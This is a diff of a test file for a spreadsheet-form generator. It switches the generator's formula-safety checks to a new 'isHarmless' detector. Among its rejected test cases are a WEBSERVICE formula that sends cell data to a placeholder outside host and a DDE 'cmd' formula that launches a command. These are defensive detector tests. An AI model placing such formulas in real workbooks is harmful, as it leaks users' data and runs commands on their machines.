@@ -2,10 +2,10 @@ import { cellKey, type Grid, type TableDefinition } from '@duban/tables';
 import { createWorkbookPool, type WorkbookPool } from '@duban/workbook';
 import type { Worksheet } from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { isOwnFormula } from '../src/child/form/formulas.js';
 import { fixedLength } from '../src/child/ledger/ledger-validations.js';
 import { open } from './book.js';
 import { blockForm, countedForm } from './forms.js';
+import { isHarmless } from './harmless-formula.js';
 import { cleanGrid, header, identity, prefill, secret, t1 } from './t1.js';
 
 const first = cleanGrid();
@@ -77,7 +77,7 @@ describe('the live checks of a form', () => {
       `IF(COUNT($E$${inst},$E$${hosp},$E$${pharm})=3,ROUND($E$${inst}-($E$${hosp}+$E$${pharm}),10)<>0,FALSE)`,
     );
   });
-  it('are written in formulas that a marked return lets live', async () => {
+  it('are written in formulas that reach nothing but the workbook’s own cells', async () => {
     const formulas: string[] = [];
     for (const bytes of [template, await pool.template({ table: countedForm, identity, prefill: prefill(), secret })]) {
       for (const sheet of (await open(bytes)).worksheets) {
@@ -85,7 +85,7 @@ describe('the live checks of a form', () => {
       }
     }
     expect(formulas.length).toBeGreaterThan(100);
-    for (const formula of formulas) expect(isOwnFormula(formula), formula).toBe(true);
+    for (const formula of formulas) expect(isHarmless(formula), formula).toBe(true);
   });
   it('stand beside what is printed, with last period’s own figures', async () => {
     const form = await formOf(template);
@@ -150,7 +150,7 @@ describe('a rule that no cell can tell', () => {
   });
 });
 
-describe('a formula is not the form’s own', () => {
+describe('a formula that reaches further is told apart', () => {
   it.each([
     'WEBSERVICE("http://x/"&A1)',
     "cmd|' /C calc'!A0",
@@ -161,7 +161,7 @@ describe('a formula is not the form’s own', () => {
     'IF(E7="","",_xlfn.FILTERXML(A1,"x"))',
     'myName+1',
   ])('%s', (formula) => {
-    expect(isOwnFormula(formula)).toBe(false);
+    expect(isHarmless(formula)).toBe(false);
   });
 });
 
